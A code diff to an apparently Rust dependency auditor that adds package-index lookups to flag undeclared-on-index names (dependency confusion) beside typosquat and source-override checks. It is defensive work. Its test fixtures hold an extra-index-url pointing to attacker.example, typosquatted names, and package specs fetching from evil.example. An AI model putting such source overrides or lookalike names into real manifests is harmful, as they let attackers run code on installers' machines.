@@ -14,13 +14,17 @@
 //! a spec that names its source (git, `github:`, a URL, `file:`, `npm:`
 //! alias, `user/repo`) or `bundleDependencies`.
 //!
-//! A requirement not on the index is found by `install` itself, whose
-//! resolution fails naming it (`environment-build-failed`): the audit
-//! does not reach the network.
+//! - `deps.not-on-index`: with an [`IndexCheck`] (the caller named an
+//!   index), a declared name the index does not have: a name nobody owns
+//!   there can be registered by anyone later (dependency confusion);
+//!   `deps.index-lookup-failed` when the index could not say.
+//!
+//! Without an [`IndexCheck`] the audit does not reach the network.
 
 use std::path::Path;
 
 use crate::finding::Finding;
+use crate::index::{Ecosystem, IndexCheck, Lookup};
 use crate::rules::rule_of;
 
 /// Well-known PyPI distributions (normalised names): among the most
@@ -183,14 +187,15 @@ pub const WELL_KNOWN_NPM: &[&str] = &[
 pub const MIN_TYPOSQUAT_CHARS: usize = 4;
 
 /// The findings of the skill's dependency files (`files`: path and text
-/// of the skill's files, `/`-separated paths).
-pub(crate) fn findings(files: &[(&str, &str)]) -> Vec<Finding> {
+/// of the skill's files, `/`-separated paths); with `index`, each
+/// declared name is looked up on it.
+pub(crate) fn findings(files: &[(&str, &str)], index: Option<&IndexCheck>) -> Vec<Finding> {
     let text_of = |name: &str| files.iter().find(|(p, _)| *p == name).map(|(_, t)| *t);
     let requirements_txt = text_of(skilldeck::environment::REQUIREMENTS_TXT);
     let pyproject = text_of(skilldeck::environment::PYPROJECT_TOML);
     let mut out = Vec::new();
     if let Some(text) = text_of(skilldeck::environment::PACKAGE_JSON) {
-        node_findings(text, &mut out);
+        node_findings(text, index, &mut out);
     }
     if requirements_txt.is_none() && pyproject.is_none() {
         return out;
@@ -217,11 +222,23 @@ pub(crate) fn findings(files: &[(&str, &str)]) -> Vec<Finding> {
             Ok(None) => {}
             Ok(Some(deps)) => {
                 for r in &deps.requirements {
+                    let line = if line_no > 0 { line_no } else { r.line };
+                    if let Some(index) = index {
+                        on_index(
+                            index,
+                            Ecosystem::Python,
+                            &r.name,
+                            &r.file,
+                            line,
+                            &r.text,
+                            &mut out,
+                        );
+                    }
                     if let Some(known) = shadowed(&r.name) {
                         out.push(finding(
                             "deps.shadows-well-known",
                             &r.file,
-                            if line_no > 0 { line_no } else { r.line },
+                            line,
                             &r.text,
                             format!(
                                 "requirement '{}' is one letter away from the well-known \
@@ -266,7 +283,7 @@ pub(crate) fn findings(files: &[(&str, &str)]) -> Vec<Finding> {
 
 /// The findings of `package.json` (`text`): each dependency on its own,
 /// so a refused spec does not hide a typosquat on another.
-fn node_findings(text: &str, out: &mut Vec<Finding>) {
+fn node_findings(text: &str, index: Option<&IndexCheck>, out: &mut Vec<Finding>) {
     use skilldeck::environment::{PACKAGE_JSON, json_key_line, npm_spec_source};
     let Ok(serde_json::Value::Object(manifest)) = serde_json::from_str(text) else {
         return;
@@ -298,7 +315,20 @@ fn node_findings(text: &str, out: &mut Vec<Finding>) {
             let line = json_key_line(text, Some(section), name);
             let spec = spec.as_str().unwrap_or_default();
             let evidence = format!("\"{name}\": \"{spec}\"");
-            if let Some(what) = npm_spec_source(spec) {
+            let source = npm_spec_source(spec);
+            // A spec with its own source is not fetched from the registry.
+            if let (Some(index), None) = (index, source) {
+                on_index(
+                    index,
+                    Ecosystem::Npm,
+                    name,
+                    PACKAGE_JSON,
+                    line,
+                    &evidence,
+                    out,
+                );
+            }
+            if let Some(what) = source {
                 out.push(finding(
                     "deps.source-override",
                     PACKAGE_JSON,
@@ -337,6 +367,43 @@ pub fn shadowed_npm(name: &str) -> Option<&'static str> {
         .copied()
         .filter(|k| k.chars().count() >= MIN_TYPOSQUAT_CHARS)
         .find(|k| one_edit(name.as_bytes(), k.as_bytes()))
+}
+
+/// Looks `name` up on `index`: a finding when the index does not have it
+/// (`deps.not-on-index`) or could not say (`deps.index-lookup-failed`).
+fn on_index(
+    index: &IndexCheck,
+    eco: Ecosystem,
+    name: &str,
+    file: &str,
+    line: u32,
+    evidence: &str,
+    out: &mut Vec<Finding>,
+) {
+    let what = match eco {
+        Ecosystem::Python => "requirement",
+        Ecosystem::Npm => "dependency",
+    };
+    match index.lookup(eco, name) {
+        None | Some(Lookup::Found) => {}
+        Some(Lookup::NotFound { asked }) => out.push(finding(
+            "deps.not-on-index",
+            file,
+            line,
+            evidence,
+            format!(
+                "{what} '{name}' is not on the package index ({asked}): anyone can register \
+                 that name there later, and the next install would run their code"
+            ),
+        )),
+        Some(Lookup::Failed { reason }) => out.push(finding(
+            "deps.index-lookup-failed",
+            file,
+            line,
+            evidence,
+            format!("{what} '{name}' could not be looked up on the package index: {reason}"),
+        )),
+    }
 }
 
 fn names_a_source(line: &str) -> bool {
@@ -432,10 +499,13 @@ mod tests {
 
     #[test]
     fn typosquats_and_source_overrides_are_found_at_their_line() {
-        let f = findings(&[(
-            "requirements.txt",
-            "requests\nreqeusts==2.0\n--extra-index-url https://attacker.example/simple\n",
-        )]);
+        let f = findings(
+            &[(
+                "requirements.txt",
+                "requests\nreqeusts==2.0\n--extra-index-url https://attacker.example/simple\n",
+            )],
+            None,
+        );
         let got: Vec<(&str, Option<u32>)> = f.iter().map(|f| (f.code.as_str(), f.line)).collect();
         assert_eq!(
             got,
@@ -444,14 +514,17 @@ mod tests {
                 ("deps.source-override", Some(3))
             ]
         );
-        let f = findings(&[("requirements.txt", "requests\nreqeusts==2.0\n")]);
+        let f = findings(&[("requirements.txt", "requests\nreqeusts==2.0\n")], None);
         assert_eq!(f.len(), 1);
         assert_eq!(f[0].code, "deps.shadows-well-known");
         assert_eq!(f[0].line, Some(2));
-        let f = findings(&[(
-            "pyproject.toml",
-            "[project]\ndependencies = [\"numpyy>=1\"]\n",
-        )]);
+        let f = findings(
+            &[(
+                "pyproject.toml",
+                "[project]\ndependencies = [\"numpyy>=1\"]\n",
+            )],
+            None,
+        );
         assert_eq!(f[0].code, "deps.shadows-well-known");
         assert_eq!(f[0].file, "pyproject.toml");
     }
@@ -462,7 +535,7 @@ mod tests {
                     \"is-odd\": \"github:evil/is-odd\",\n    \"express\": \"^4\"\n  },\n  \
                     \"optionalDependencies\": { \"left\": \"git+https://evil.example/x.git\" },\n  \
                     \"bundleDependencies\": [\"is-odd\"]\n}\n";
-        let f = findings(&[("package.json", text)]);
+        let f = findings(&[("package.json", text)], None);
         let got: Vec<(&str, Option<u32>)> = f.iter().map(|f| (f.code.as_str(), f.line)).collect();
         assert_eq!(
             got,
